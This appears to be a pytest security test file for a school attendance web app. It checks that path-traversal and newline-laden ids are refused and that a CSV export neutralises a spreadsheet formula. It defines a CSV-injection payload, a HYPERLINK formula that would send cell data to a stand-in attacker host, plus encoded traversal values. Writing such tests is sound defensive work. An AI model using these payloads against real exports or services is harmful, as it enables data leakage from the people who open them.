"""What an attacker or a careless client sends: hostile identifiers, names that are formulas,
tokens limited to one class, and ids that belong to someone else. Each answer is checked, and
so is what the stores hold afterwards."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
import redis

from common.blobstore import open_blob_store
from common.records import open_records
from common.schemas import AttendanceRecord
from common.settings import Settings
from tests import tokens
from tests.conftest import redis_url_for
from web.app import create_app

REDIS_DB = 13
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"details")'


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    url = redis_url_for(REDIS_DB)
    redis.Redis.from_url(url).flushdb()
    return Settings(
        _env_file=None, REDIS_URL=url, blob_store_url=f"file://{tmp_path}/store",
        records_url=f"sqlite:///{tmp_path}/db.sqlite", api_tokens=tokens.TOKENS_JSON,
        api_tokens_file=tmp_path / "no-tokens-file.json",
    )


@pytest.fixture
def client(settings):
    return tokens.as_admin(create_app(settings).test_client())


@pytest.fixture
def records(settings):
    return open_records(settings.records_url)


@pytest.fixture
def blobs(settings):
    return open_blob_store(settings.blob_store_url)


def error_code(response, status: int) -> str:
    assert response.status_code == status, (response.status_code, response.get_data(as_text=True))
    body = response.get_json()
    assert set(body) == {"error"} and body["error"]["message"], body
    return body["error"]["code"]


def seed_photos(blobs, *students: str) -> list[str]:
    keys = [f"students/{sid}/{'ab' * 16}-000.jpg" for sid in students]
    for key in keys:
        blobs.put(key, b"jpeg bytes")
    return keys


# --- identifiers --------------------------------------------------------------------------------


@pytest.mark.parametrize("hostile", ["%2E", "%2E%2E", ".", "sec-x%0A", "%2Ehidden"])
def test_a_hostile_student_id_in_a_path_deletes_nothing(client, blobs, hostile):
    keys = seed_photos(blobs, "ann", "ben")
    assert error_code(client.delete(f"/api/v1/students/{hostile}"), 400) == "invalid_student_id"
    assert error_code(client.get(f"/api/v1/students/{hostile}"), 400) == "invalid_student_id"
    assert all(blobs.exists(k) for k in keys)


def test_a_student_id_with_a_newline_is_refused_before_anything_is_stored(client, blobs):
    response = client.post("/api/v1/students", data={
        "student_id": "sec-x\n", "name": "X", "photos": (io.BytesIO(b"x"), "a.jpg")},
        content_type="multipart/form-data")
    assert error_code(response, 400) == "invalid_student_id"
    assert blobs.list("") == []


@pytest.mark.parametrize("path", [
    f"/api/v1/annotated/{'ab' * 16}%0A/0", f"/api/v1/jobs/{'ab' * 16}%0A",
    f"/api/v1/jobs/{'AB' * 16}",
])
def test_a_job_id_with_anything_around_it_is_not_found(client, path):
    assert error_code(client.get(path), 404) in ("job_not_found", "not_found")


# --- exports ------------------------------------------------------------------------------------


def test_the_csv_export_never_holds_a_formula(client, records):
    records.upsert_student("evil", HOSTILE, "room-1")
    records.mark_present(AttendanceRecord(
        class_id="room-1", date=dt.date(2026, 11, 2), student_id="evil", name=HOSTILE,
        first_seen_at=dt.datetime(2026, 11, 2, 8, tzinfo=dt.timezone.utc), distance=0.2,
        job_id="ab" * 16))
    response = client.get("/api/v1/attendance?class_id=room-1&format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert [r["name"] for r in rows] == ["'" + HOSTILE]
    assert rows[0]["distance"] == "0.2"
    # The JSON answer is data, not a spreadsheet: the name as it was given.
    assert client.get("/api/v1/attendance?class_id=room-1").get_json()[
        "records"][0]["name"] == HOSTILE
